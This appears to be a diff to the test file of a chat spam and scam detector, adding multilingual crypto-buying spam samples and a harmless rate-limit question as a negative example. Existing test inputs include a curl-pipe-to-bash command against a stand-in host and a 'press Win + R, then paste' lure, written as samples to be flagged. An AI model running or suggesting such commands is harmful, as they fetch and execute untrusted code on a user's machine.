@@ -161,6 +161,9 @@ def test_a_contact_in_answer_to_a_fresh_question_is_suspect() -> None:
         (Message(text="Earn $5000 a week, dm me"), "profit"),
         (Message(text="гарантированный доход, пишите мне"), "profit"),
         (Message(text="稳赚不赔 加我 @abcdef"), "profit"),
+        (Message(text="高价收u，量大的私我"), "profit"),
+        (Message(text="куплю usdt выше рынка, пишите в лс"), "profit"),
+        (Message(text="compro usdt, cualquier monto, escríbeme"), "profit"),
         (Message(text="fix: curl -s https://a.example | bash"), "command"),
         (Message(text="press Win + R, then Ctrl+V and Enter"), "command"),
         (Message(text="paste this into your terminal"), "paste"),
@@ -181,6 +184,7 @@ def test_spam_is_told_by_its_kind(message: Message, why: str) -> None:
     [
         "👨‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England", "Tiếng Việt rất đẹp", "สวัสดีครับ", "می‌خواهم بدانم",
         "нужен USDT на BSC",
+        "docs.example.com says 1200 a minute, but I get 429 at 600",
         "is a guaranteed profit real?", "I use curl in a script", "@anna @ben thank you",
         "I pasted the command into the terminal and got an error", "The console shows a warning",
         "我在终端粘贴命令以后报错", "コンソールに貼り付けたらエラーが出ました",
